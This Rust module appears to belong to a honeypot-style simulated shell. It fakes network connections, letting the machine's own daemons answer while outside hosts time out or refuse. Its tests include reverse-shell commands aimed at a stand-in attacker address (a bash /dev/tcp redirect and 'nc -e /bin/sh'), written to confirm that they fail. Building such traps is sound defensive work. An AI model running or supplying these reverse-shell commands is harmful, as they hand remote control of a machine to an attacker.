//! Connections that a visitor makes from the machine: to its own daemons, which answer them as they answer anybody, and to
//! other hosts, where nothing leaves the bucket.

mod dev_tcp;
mod ftp;
mod nc;
mod resolving;
mod talk;
mod telnet;
mod traceroute;
pub(super) mod web;

use std::time::Duration;

pub(in crate::shell) use dev_tcp::{connect, is_meant, told};
pub(super) use ftp::ftp;
pub(super) use nc::nc;
pub(super) use resolving::{dig, host, nslookup};
pub(super) use talk::Talk;
pub(super) use telnet::{keyscan, telnet, whois};
pub(super) use traceroute::traceroute;

use super::{
    ping,
    transfer::{self, Url},
};
use crate::{machine::Identity, shell::session::Session};

/// As long as a kernel tries to connect when nobody answers, cut to what a visitor waits for.
pub(super) const NO_ANSWER: Duration = Duration::from_secs(20);
/// To a host that is there and back.
const FAR: Duration = Duration::from_millis(90);

/// Ports with a name in /etc/services that are asked for by it.
const SERVICES: [(&str, u16); 22] = [
    ("domain", 53),
    ("ftp", 21),
    ("ftp-data", 20),
    ("http", 80),
    ("https", 443),
    ("imap2", 143),
    ("imaps", 993),
    ("ldap", 389),
    ("microsoft-ds", 445),
    ("ms-wbt-server", 3389),
    ("mysql", 3306),
    ("ntp", 123),
    ("pop3", 110),
    ("pop3s", 995),
    ("postgresql", 5432),
    ("redis", 6379),
    ("rsync", 873),
    ("smtp", 25),
    ("ssh", 22),
    ("submission", 587),
    ("telnet", 23),
    ("http-alt", 8080),
];

/// The port that a word means.
pub(super) fn port(word: &str) -> Option<u16> {
    let named = || SERVICES.iter().find(|(name, _)| *name == word).map(|(_, port)| *port);
    word.parse().ok().filter(|port| *port > 0).or_else(named)
}

/// The name of a port; `None` for those without.
pub(super) fn service(port: u16) -> Option<&'static str> {
    SERVICES.iter().find(|(_, known)| *known == port).map(|(name, _)| *name)
}

/// Whether this name or address is the machine itself.
pub(super) fn is_own(session: &Session, identity: &Identity, host: &str) -> bool {
    let host = host.trim_matches(['[', ']']);
    let loopback = host.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_loopback() || ip.is_unspecified());
    loopback
        || matches!(host, "localhost" | "ip6-localhost")
        || host == identity.hostname
        || host == identity.full_name()
        || host == identity.address.to_string()
        || host == session.contact.local.ip().to_canonical().to_string()
}

/// What happens to a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Reach {
    /// One of the machine's own daemons answers.
    Own,
    /// Somebody far away accepts.
    Accepted,
    Refused,
    /// There is no such neighbour, as the kernel finds after a while.
    NoRoute,
    /// Nobody answers, ever.
    Silent,
}

/// The other end of a connection.
#[derive(Debug)]
pub(super) struct Place {
    /// As it was given.
    pub(super) name: String,
    /// Where the name leads.
    pub(super) address: String,
    pub(super) port: u16,
    pub(super) reach: Reach,
}

impl Place {
    /// `None`: no such name.
    pub(super) fn of(session: &Session, name: &str, port: u16) -> Option<Self> {
        let identity = session.identity();
        let make = |address: String, reach| Some(Self { name: name.to_owned(), address, port, reach });
        if is_own(session, identity, name) {
            let address = match name {
                "localhost" => "::1".to_owned(),
                _ if name == identity.hostname || name == identity.full_name() => "127.0.1.1".to_owned(),
                _ => name.to_owned(),
            };
            let listens = Talk::listens(&session.contact.visitor, port);
            return make(address, if listens { Reach::Own } else { Reach::Refused });
        }
        let url = Url::cut(&format!("tcp://{name}:{port}/"));
        let address = url.resolved()?;
        // Every other odd port of a host is closed, the others are behind a firewall.
        let reach = match port {
            _ if ping::is_neighbour(identity, &address) => Reach::NoRoute,
            _ if url.is_dead() => Reach::Silent,
            21 | 22 | 25 | 53 | 80 | 443 => Reach::Accepted,
            _ if address.len() % 2 == 0 => Reach::Refused,
            _ => Reach::Silent,
        };
        make(address, reach)
    }

    pub(super) fn is_address(&self) -> bool {
        self.name == self.address
    }

    /// Lets the time pass until it is known whether there is a connection: at most `limit` for one that never is.
    pub(super) async fn wait(&self, session: &Session, limit: Option<Duration>) {
        match self.reach {
            Reach::Own => {}
            Reach::Refused if is_own(session, session.identity(), &self.name) => {}
            Reach::Accepted | Reach::Refused => transfer::wait(session, FAR).await,
            Reach::NoRoute => {
                transfer::wait(session, limit.map_or(web::NO_ROUTE, |limit| limit.min(web::NO_ROUTE))).await;
            }
            Reach::Silent => {
                transfer::wait(session, limit.map_or(NO_ANSWER, |limit| limit.min(NO_ANSWER))).await;
            }
        }
    }

    /// The wish is an event.
    pub(super) fn record(&self, session: &Session, scheme: &str) {
        if self.reach != Reach::Own {
            transfer::record(session, &format!("{scheme}://{}:{}/", self.name, self.port), "", None);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::shell::tests::{said, shell};

    #[tokio::test]
    async fn the_machines_own_daemons_answer_the_machine() {
        let mut shell = shell("root");
        for (line, wanted) in [
            (
                "printf 'EHLO x\\r\\nQUIT\\r\\n' | nc 127.0.0.1 25 | sed -n '1p;$p' | cut -c1-4",
                "220 \n221 \n",
            ),
            ("nc -zv localhost 22", "Connection to localhost (::1) 22 port [tcp/ssh] succeeded!\n"),
            ("nc -zv 127.0.0.1 81", "nc: connect to 127.0.0.1 port 81 (tcp) failed: Connection refused\n"),
            ("echo hello > /var/www/html/x; curl -s http://localhost/x", "hello\n"),
            (
                "curl -so /dev/null -w '%{http_code} %{size_download}\\n' http://localhost/nothere",
                "404 153\n",
            ),
            ("curl -sI http://127.0.0.1/ | head -2", "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n"),
            ("wget -q http://localhost/nothere; echo $?", "8\n"),
            ("exec 3<>/dev/tcp/127.0.0.1/22; head -c 8 <&3", "SSH-2.0-"),
            ("for p in 22 24; do (echo > /dev/tcp/localhost/$p) 2>/dev/null && echo $p; done", "22\n"),
            (
                "echo > /dev/tcp/127.0.0.1/1",
                "-bash: connect: Connection refused\n-bash: /dev/tcp/127.0.0.1/1: Connection refused\n",
            ),
            // What is stopped does not answer.
            ("systemctl stop nginx; curl -s http://localhost/; echo $?", "7\n"),
        ] {
            assert_eq!(said(&mut shell, line).await.0, wanted, "{line}");
        }
    }

    #[tokio::test]
    async fn a_shell_for_somebody_elsewhere_never_gets_there() {
        let mut shell = shell("root");
        let (text, finished) = said(&mut shell, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").await;
        assert_eq!(
            text,
            "-bash: connect: Connection timed out\n-bash: /dev/tcp/203.0.113.5/4444: Connection timed out\n"
        );
        assert_eq!(finished.status, 1);
        let text = said(&mut shell, "nc -e /bin/sh 203.0.113.5 4444").await.0;
        assert!(text.starts_with("nc: invalid option -- 'e'\nusage: nc "), "{text}");
    }
}
